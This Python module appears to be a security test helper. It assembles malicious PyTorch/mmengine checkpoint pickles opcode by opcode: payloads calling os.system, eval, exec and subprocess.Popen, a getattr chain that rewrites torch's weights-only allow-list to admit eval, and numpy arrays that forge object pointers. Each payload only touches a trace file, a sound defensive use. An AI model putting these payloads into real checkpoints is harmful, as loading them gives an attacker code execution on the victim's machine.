"""Checkpoints that run code when they are read carelessly: pickles written opcode by opcode.

``pickle`` writes what Python objects say of themselves; an attacker is not bound to that. Each
small function gives the opcodes that leave one value on the unpickler's stack.
"""

from __future__ import annotations

import os
import pickle
import struct
import zipfile
from pathlib import Path

from torch.serialization import MAGIC_NUMBER, PROTOCOL_VERSION

NUMPY = 'numpy._core.multiarray'
HISTORY = 'mmengine.logging.history_buffer'


class Touch:
    """Unpickling this touches a file."""

    def __init__(self, trace: Path) -> None:
        self.trace = trace

    def __reduce__(self):
        return os.system, (f'touch {self.trace}',)


def name(module: str, attribute: str) -> bytes:
    return f'c{module}\n{attribute}\n'.encode()


def text(value: str) -> bytes:
    return b'X' + struct.pack('<I', len(value.encode())) + value.encode()


def number(value: int) -> bytes:
    return b'J' + struct.pack('<i', value)


def data(value: bytes) -> bytes:
    return call(name('_codecs', 'encode'), text(value.decode('latin1')), text('latin1'))


def tuple_of(values: tuple[bytes, ...]) -> bytes:
    return b'(' + b''.join(values) + b't'


def mapping(*items: tuple[bytes, bytes]) -> bytes:
    return b'}' + b''.join(key + value + b's' for key, value in items)


def listing(*values: bytes) -> bytes:
    return b'](' + b''.join(values) + b'e'


def call(function: bytes, *arguments: bytes) -> bytes:
    """The REDUCE opcode."""
    return function + tuple_of(arguments) + b'R'


def new(kind: bytes, *arguments: bytes) -> bytes:
    """The NEWOBJ opcode: ``kind.__new__(kind, *arguments)``."""
    return kind + tuple_of(arguments) + b'\x81'


def build(instance: bytes, state: bytes) -> bytes:
    """The BUILD opcode: ``instance.__setstate__(state)``, or into its ``__dict__``."""
    return instance + state + b'b'


def attribute(owner: bytes, *path: str) -> bytes:
    for part in path:
        owner = call(name('builtins', 'getattr'), owner, text(part))
    return owner


def history(state: bytes | None = None) -> bytes:
    instance = new(name(HISTORY, 'HistoryBuffer'))
    return instance if state is None else build(instance, state)


def getattr_chain(trace: Path) -> bytes:
    """From ``HistoryBuffer`` through module globals to torch's own allow-list, then ``eval``.

    ``HistoryBuffer.__setstate__`` copies any dict into the instance, so that ``getattr`` reaches
    what is in a dict; and it updates any dict that the instance has for ``_statistics_methods``.
    """
    module_globals = attribute(name(HISTORY, 'HistoryBuffer'), '__init__', '__globals__')
    copied = history(call(name('collections', 'OrderedDict'), module_globals))
    builtins = history(call(name('collections', 'OrderedDict'), attribute(copied, '__builtins__')))
    modules = attribute(copied, 'warnings', 'sys', 'modules')
    modules = history(call(name('collections', 'OrderedDict'), modules))
    reader = attribute(modules, 'torch._weights_only_unpickler', '__dict__')
    evaluate, recall = attribute(builtins, 'eval') + b'q\x00', b'h\x00'
    admitted = call(name('builtins', 'set'), listing(evaluate))
    victim = history(mapping((text('_statistics_methods'), reader)))
    new_list = mapping((text('_marked_safe_globals_set'), admitted))
    victim = build(victim, mapping((text('statistics_methods'), new_list)))
    return listing(victim, call(recall, text(f'open({str(trace)!r}, "w")')))


def refcounted_array(kind: str = 'O8') -> bytes:
    """An array whose bytes numpy would take for pointers to objects."""
    dtype = call(name('numpy', 'dtype'), text(kind), b'\x89', b'\x88')
    flags = number(0 if kind[0] == 'O' else 1)
    order = text('|' if kind[0] == 'O' else '<')
    none = b'N' * 3
    dtype = build(dtype, tuple_of((number(3), order, none, number(-1), number(-1), flags)))
    array = call(
        name(NUMPY, '_reconstruct'), name('numpy', 'ndarray'), tuple_of((number(0),)), data(b'b')
    )
    shape = tuple_of((number(1),))
    return build(array, tuple_of((number(1), shape, dtype, b'\x89', data(b'A' * 8))))


def payloads(trace: Path) -> dict[str, bytes]:
    """What an attacker may try; each touches ``trace``, or memory, if it gets through."""
    touch = text(f'touch {trace}')
    run = call(name('os', 'system'), touch)
    evaluate = call(name('builtins', 'eval'), text(f'open({str(trace)!r}, "w")'))
    return {
        'reduce_system': run,
        'reduce_posix_system': call(name('posix', 'system'), touch),
        'reduce_eval': evaluate,
        'reduce_exec': call(name('builtins', 'exec'), text(f'open({str(trace)!r}, "w")')),
        'newobj_popen': new(name('subprocess', 'Popen'), touch, number(-1), b'N'),
        'getattr_to_system': call(attribute(name('os', 'path'), 'os', 'system'), touch),
        'getattr_chain': getattr_chain(trace),
        'getattr_of_history': attribute(name(HISTORY, 'HistoryBuffer'), '__init__', '__globals__'),
        'getattr_of_method': attribute(name(HISTORY, 'HistoryBuffer'), 'mean', '__globals__'),
        'build_history': history(mapping((text('_statistics_methods'), mapping()))),
        'build_history_scalars': history(mapping((text('max_length'), text('x')))),
        'history_arguments': call(name(HISTORY, 'HistoryBuffer'), listing(), listing(), evaluate),
        'new_history_arguments': new(name(HISTORY, 'HistoryBuffer'), listing(), listing()),
        'build_namespace': build(new(name('argparse', 'Namespace')), mapping((text('x'), run))),
        'build_namespace_class': build(
            new(name('argparse', 'Namespace')), mapping((text('__class__'), text('x')))
        ),
        'build_namespace_slots': build(
            new(name('argparse', 'Namespace')), tuple_of((b'N', mapping((text('x'), b'N'))))
        ),
        'build_namespace_method': build(
            new(name('argparse', 'Namespace')),
            mapping((text('_get_kwargs'), name('torch', 'Size'))),
        ),
        'rebuild_dtype': call(
            name('torch._tensor', '_rebuild_from_type_v2'),
            name('numpy', 'dtype'),
            name('numpy', 'dtype'),
            tuple_of((text('f8'),)),
            mapping((text('dtype'), text('O'))),
        ),
        'rebuild_history': call(
            name('torch._tensor', '_rebuild_from_type_v2'),
            name(HISTORY, 'HistoryBuffer'),
            name(HISTORY, 'HistoryBuffer'),
            tuple_of(()),
            mapping((text('_statistics_methods'), mapping())),
        ),
        'object_array': refcounted_array('O8'),
        'refcounted_array': refcounted_array('f8'),
        'array_subclass': call(
            name(NUMPY, '_reconstruct'), name('builtins', 'set'), tuple_of((number(0),)), data(b'b')
        ),
        'array_arguments': call(name('numpy', 'ndarray'), tuple_of((number(9),)), text('O')),
        'scalar_object': call(
            name(NUMPY, 'scalar'), call(name('numpy', 'dtype'), text('O8')), data(b'A' * 8)
        ),
        'numpy_load': call(name('numpy', 'load'), text(str(trace))),
        'nested': mapping(
            (text('meta'), mapping((text('x'), listing(tuple_of((mapping((text('y'), run)),))))))
        ),
    }


def checkpoint(payload: bytes) -> bytes:
    """The pickle of ``{'state_dict': {}, 'meta': {}, 'x': payload}``."""
    content = mapping((text('state_dict'), b'}'), (text('meta'), b'}'), (text('x'), payload))
    return b'\x80\x02' + content + b'.'


def write(path: Path, pickled: bytes, form: str) -> Path:
    """Put a pickle into a file of one of torch's formats, or into a bare one."""
    if form == 'zip':
        with zipfile.ZipFile(path, 'w') as archive:
            for record, content in (('data.pkl', pickled), ('version', b'3\n')):
                archive.writestr(f'archive/{record}', content)
        return path
    head = (MAGIC_NUMBER, PROTOCOL_VERSION, dict(little_endian=True)) if form == 'legacy' else ()
    tail = pickle.dumps([], 2) if form == 'legacy' else b''
    path.write_bytes(b''.join(pickle.dumps(part, 2) for part in head) + pickled + tail)
    return path
